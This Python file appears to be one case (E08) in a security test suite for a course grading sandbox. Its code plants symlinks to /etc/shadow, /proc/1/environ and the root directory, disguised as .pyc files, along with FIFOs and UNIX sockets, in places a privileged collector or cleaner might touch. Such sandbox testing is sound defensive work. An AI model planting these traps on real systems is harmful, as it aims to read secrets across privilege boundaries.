"""E08: plant links, pipes and sockets where somebody with more rights collects or cleans

Stopped by: nothing is collected; cleaning is done as the student's user, and follows no link.
"""

import os
import shutil
import socket

for folder in ("/tmp/compiled/job/submission", "/tmp/compiled/opt"):
    os.makedirs(folder, exist_ok=True)
    for name, target in (("a.pyc", "/etc/shadow"), ("b.pyc", "/proc/1/environ"), ("c", "/"), ("d.pyc", "/dev/zero")):
        try:
            os.symlink(target, f"{folder}/{name}")
        except OSError:
            continue
    try:
        os.mkfifo(f"{folder}/e.pyc")
        shutil.copy("/opt/coursehub/gpu_worker/protocol.py", f"{folder}/f.pyc")
    except OSError:
        pass


def attacked(numbers):
    for top, _, names in os.walk("/job/compiled"):
        for name in names:
            if os.path.islink(os.path.join(top, name)) or name in ("a.pyc", "b.pyc", "d.pyc", "e.pyc"):
                print("GOT", top, name)
    for folder in ("/tmp", "/dev/shm"):
        os.symlink("/opt", f"{folder}/opt")
        os.symlink("/job/submission", f"{folder}/submission")
        os.mkfifo(f"{folder}/fifo")
        os.mkdir(f"{folder}/folder")
        os.symlink("/", f"{folder}/folder/root")
        socket.socket(socket.AF_UNIX).bind(f"{folder}/socket")
    return numbers
